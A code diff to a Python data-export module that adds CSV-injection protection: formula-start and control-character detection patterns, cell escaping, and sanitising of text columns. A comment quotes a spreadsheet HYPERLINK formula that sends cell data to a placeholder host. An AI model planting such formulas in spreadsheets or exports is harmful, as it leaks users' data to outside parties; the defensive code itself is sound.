@@ -5,10 +5,12 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from collections.abc import AsyncIterator
 from typing import Any, Literal, TextIO
 
 from .service import quality
+from .service.items import ExportWhat
 from .service.labeling import LabelingService
 from .service.reports import Reports
 
@@ -66,68 +68,62 @@ async def rows(service: LabelingService, project: str, what: What) -> AsyncItera
             }
 
 
-# Results and answers are built by SQLite itself (json_object for JSONL): a million rows stream at
-# SQLite's speed instead of through a Python dict and json.dumps each.
-def _label_sql(kind: str, column: str) -> str:
-    if kind == "multi":
-        return f"json({column})"
-    if kind == "rating":
-        return (
-            f"CASE WHEN CAST({column} AS INTEGER) = CAST({column} AS REAL)"
-            f" THEN CAST({column} AS INTEGER) ELSE CAST({column} AS REAL) END"
-        )
-    return column
+# -- CSV injection ---------------------------------------------------------------------------
+# A spreadsheet runs a cell that starts with = + - @ (or a tab or CR before one) as a formula:
+# a Slack answer =HYPERLINK("http://x/?"&A1,"x") came out live. In CSV such a cell gets a
+# leading ', and control characters (ESC and the like) are written as \xNN. Plain numbers
+# such as -1 stay numbers. A CR becomes a line break: Python's csv writer does not quote a
+# field for a CR, which split the row. JSONL is exact: it is data, not a spreadsheet.
+_FORMULA_START = frozenset("=+-@\t\r")
+_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
+_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+# One match() per cell: a formula start, or a control character (CR included) anywhere.
+_RISKY = re.compile(r"[=+\-@\t\r]|.*[\x00-\x08\x0b-\x1f\x7f-\x9f]", re.S)
+# Columns that can hold outside text (item ids from the data file, labels and free-text
+# answers, annotator keys); the others are numbers, fixed words or JSON chatlabel wrote.
+_TEXT_COLUMNS: dict[str, tuple[int, ...]] = {"results": (0, 1), "answers": (0, 1, 2)}
 
 
-_BOOL = "json(CASE WHEN {} THEN 'true' ELSE 'false' END)"
-_RESULTS_FROM = """FROM items i LEFT JOIN verdicts v ON v.item_id = i.id
-    WHERE i.project_id = :p AND i.gold IS NULL ORDER BY i.seq"""
-_ANSWERS_FROM = """FROM answers x JOIN items i ON i.id = x.item_id
-    JOIN annotators a ON a.id = x.annotator_id WHERE i.project_id = :p ORDER BY x.id"""
-_ISO = "strftime('%Y-%m-%dT%H:%M:%f', x.answered_at, 'unixepoch') || '+00:00'"
-_SQL = {
-    ("results", "jsonl"): """SELECT json_object('id', i.ext_id,
-        'label', CASE WHEN COALESCE(v.status, i.status) = 'resolved' THEN {label} END,
-        'status', COALESCE(v.status, i.status), 'confidence', ROUND(v.confidence, 4),
-        'votes', json(COALESCE(v.votes, '{{}}')), 'n_answers', COALESCE(v.n_answers, 0),
-        'method', COALESCE(v.method, :method)) """
-    + _RESULTS_FROM,
-    ("results", "csv"): """SELECT i.ext_id,
-        CASE WHEN COALESCE(v.status, i.status) = 'resolved' THEN v.label END,
-        COALESCE(v.status, i.status), ROUND(v.confidence, 4), COALESCE(v.votes, '{{}}'),
-        COALESCE(v.n_answers, 0), COALESCE(v.method, :method) """
-    + _RESULTS_FROM,
-    ("answers", "jsonl"): f"""SELECT json_object('item_id', i.ext_id, 'annotator', a.key,
-        'label', {{label}}, 'skipped', {_BOOL.format("x.value IS NULL")},
-        'is_gold', {_BOOL.format("x.is_gold")},
-        'correct', CASE WHEN x.correct IS NULL THEN NULL ELSE {_BOOL.format("x.correct")} END,
-        'seconds', ROUND(x.seconds, 3), 'answered_at', {_ISO}) """
-    + _ANSWERS_FROM,
-    ("answers", "csv"): f"""SELECT i.ext_id, a.key, x.value,
-        CASE WHEN x.value IS NULL THEN 'true' ELSE 'false' END,
-        CASE WHEN x.is_gold THEN 'true' ELSE 'false' END,
-        CASE x.correct WHEN 1 THEN 'true' WHEN 0 THEN 'false' END,
-        ROUND(x.seconds, 3), {_ISO} """
-    + _ANSWERS_FROM,
-}
+def csv_cell(value: Any) -> Any:
+    """A value made safe to open in a spreadsheet (text only; other values unchanged)."""
+    if not isinstance(value, str) or not value:
+        return value
+    formula = value[0] in _FORMULA_START and not _NUMBER.fullmatch(value)
+    if "\r" in value:
+        value = value.replace("\r\n", "\n").replace("\r", "\n")
+    if _CONTROL.search(value):
+        value = _CONTROL.sub(lambda m: f"\\x{ord(m.group()):02x}", value)
+    return "'" + value if formula else value
+
+
+def _csv_safe(batch: list[Any], columns: tuple[int, ...]) -> list[Any]:
+    """A batch of CSV rows with its text columns made safe (the batch itself when clean)."""
+    risky = _RISKY.match
+    bad = [
+        n
+        for n, row in enumerate(batch)
+        if any(isinstance(row[c], str) and risky(row[c]) for c in columns)
+    ]
+    if not bad:
+        return batch
+    batch = list(batch)
+    for n in bad:
+        batch[n] = tuple(csv_cell(v) for v in batch[n])
+    return batch
 
 
 async def _sql_batches(
-    service: LabelingService, project: str, what: What, fmt: Format
+    service: LabelingService, project: str, what: ExportWhat, fmt: Format
 ) -> AsyncIterator[list[Any]]:
     """Rows in batches: one JSON text per row (jsonl) or a tuple of CSV cells."""
-    rules = service.rules[project]
-    if what == "results" and rules.method == "dawid-skene":
+    if what == "results" and service.rules[project].method == "dawid-skene":
         await quality.recompute(service, project)  # batch verdicts, fresh for the export
-    column = "v.label" if what == "results" else "x.value"
-    sql = _SQL[what, fmt].format(label=_label_sql(rules.kind, column))
-    params = {"p": service.pids[project], "method": rules.method}
-    async for batch in service.db.stream_batches(sql, params):
+    async for batch in service.export_batches(project, what, fmt):
         yield batch
 
 
 async def _sql_export(
-    service: LabelingService, project: str, what: What, fmt: Format, out: TextIO
+    service: LabelingService, project: str, what: ExportWhat, fmt: Format, out: TextIO
 ) -> int:
     n = 0
     if fmt == "jsonl":
@@ -137,8 +133,9 @@ async def _sql_export(
         return n
     writer = csv.writer(out, lineterminator="\n")
     writer.writerow(COLUMNS[what])
+    columns = _TEXT_COLUMNS[what]
     async for batch in _sql_batches(service, project, what, fmt):
-        writer.writerows(batch)
+        writer.writerows(_csv_safe(batch, columns))
         n += len(batch)
     return n
 
@@ -160,7 +157,7 @@ async def write(
     async for row in rows(service, project, what):
         writer.writerow(
             {
-                k: json.dumps(v, ensure_ascii=False) if isinstance(v, (dict, list)) else v
+                k: json.dumps(v, ensure_ascii=False) if isinstance(v, (dict, list)) else csv_cell(v)
                 for k, v in row.items()
             }
         )
